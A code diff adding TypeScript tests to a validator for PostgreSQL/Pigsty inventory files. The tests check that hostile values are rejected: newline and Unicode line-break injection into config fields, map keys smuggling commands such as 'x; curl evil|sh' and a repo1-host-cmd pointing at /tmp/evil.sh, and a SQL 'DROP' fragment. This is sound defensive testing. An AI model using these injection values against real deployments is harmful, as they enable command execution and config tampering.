@@ -227,6 +227,67 @@ describe('the validator is generic', () => {
 });
 
 describe('values that would add a line to a config file', () => {
+  const ns = (value: string) => `all:
+  children:
+    pg-test:
+      hosts: { 10.10.10.11: { pg_seq: 1, pg_role: primary } }
+      vars: { pg_cluster: pg-test, pg_namespace: ${JSON.stringify(value)}, patroni_password: ${JSON.stringify(`Pw.${value}`)} }
+  vars: { admin_ip: 10.10.10.10 }
+`;
+
+  it('keeps the single-line rule on a parameter with a pattern of its own (pg_namespace ^/)', () => {
+    const { errors } = check(ns('/pg\nstandby_cluster: {host: 6.6.6.6, port: 5432}\nbootstrap:\n#'));
+    const e = errors.find((x) => x.context.path === 'all.children.pg-test.vars.pg_namespace');
+    expect(e?.context).toMatchObject({ file: 'inline.yml', line: 5 });
+    expect(e?.expected).toBe('an absolute etcd key prefix on one line, such as /pg');
+    expect(e?.describe()).toContain('invalid value "/pg\\nstandby_cluster: {host: 6.6.6.6, port: 5432}\\nbootstrap:\\n#"');
+  });
+
+  it('refuses what YAML 1.1 reads as a line break: U+0085, U+2028, U+2029 and the other C1 controls', () => {
+    for (const brk of ['\u0085', '\u2028', '\u2029', '\u0080', '\u009f']) {
+      const { errors } = check(ns(`/pg${brk}standby_cluster: {host: 6.6.6.6}`));
+      expect(errors.map((e) => [e.context.path, e.expected])).toEqual([
+        ['all.children.pg-test.vars.pg_namespace', 'an absolute etcd key prefix on one line, such as /pg'],
+        ['all.children.pg-test.vars.patroni_password', 'a single line without control characters'],
+      ]);
+    }
+    expect(check(ns('/pg\u00a0x')).errors).toEqual([]);
+  });
+
+  it('refuses map keys that would add a line, an option or a command: pgbackrest_repo, pg_parameters, node_aliases, sysctl', () => {
+    const { errors } = check(`all:
+  children:
+    pg-test:
+      hosts: { 10.10.10.11: { pg_seq: 1, pg_role: primary } }
+      vars:
+        pg_cluster: pg-test
+        pgbackrest_repo: { local: { "path\\n[global]\\nrepo1-host-cmd": /tmp/evil.sh, retention_full: 2 }, "a b": {} }
+        pg_parameters: { "work_mem = 1\\nlisten_addresses": "*" }
+        pg_users: [ { name: u, parameters: { "x'; DROP": 1 } } ]
+        node_aliases: { "x; curl evil|sh": ls }
+        node_sysctl_params: { "vm.swappiness\\nkernel.x": 1 }
+        pg_rto_plan: { "a\\nb": { ttl: 1, loop: 1, retry: 1, primary_start_timeout: 1, safety_margin: 1 } }
+  vars: { admin_ip: 10.10.10.10 }
+`);
+    const vars = 'all.children.pg-test.vars.';
+    expect(errors.map((e) => [e.context.path?.replace(vars, ''), e.context.line, e.message, e.expected])).toEqual([
+      ['pgbackrest_repo', 7, 'unexpected field "a b"', 'a mapping whose keys are repository names'],
+      ['pgbackrest_repo.local', 7, 'unexpected field "path\\n[global]\\nrepo1-host-cmd"', 'a mapping whose keys are pgBackRest option names of lowercase letters, digits, _ and - (repo1-<name> with _ as -)'],
+      ['pg_parameters', 8, 'unexpected field "work_mem = 1\\nlisten_addresses"', 'a mapping whose keys are PostgreSQL parameter names'],
+      ['pg_users[0].parameters', 9, 'unexpected field "x\'; DROP"', 'a mapping whose keys are PostgreSQL parameter names'],
+      ['node_aliases', 10, 'unexpected field "x; curl evil|sh"', 'a mapping whose keys are alias names (letters, digits and _ . : + @ % -)'],
+      ['node_sysctl_params', 11, 'unexpected field "vm.swappiness\\nkernel.x"', 'a mapping whose keys are sysctl keys such as vm.swappiness'],
+      ['pg_rto_plan', 12, 'unexpected field "a\\nb"', 'a mapping whose keys are plan names of letters, digits, _ and -'],
+    ]);
+  });
+
+  it('does not show a secret that breaks the line rule', () => {
+    const { errors } = check(ns('/pg\u2028x'));
+    const e = errors.find((x) => x.context.path === 'all.children.pg-test.vars.patroni_password');
+    expect(e?.describe()).toContain('invalid value (a string; a secret is not shown)');
+    expect(e?.describe()).not.toContain('Pw.');
+  });
+
   const { errors } = validateInventory(loadInventory(fixture('hostile.yml')), pigsty);
   const at = (path: string) => errors.filter((e) => e.context.path === `all.children.pg-test.vars.${path}`).map((e) => [e.context.line, e.expected]);
 
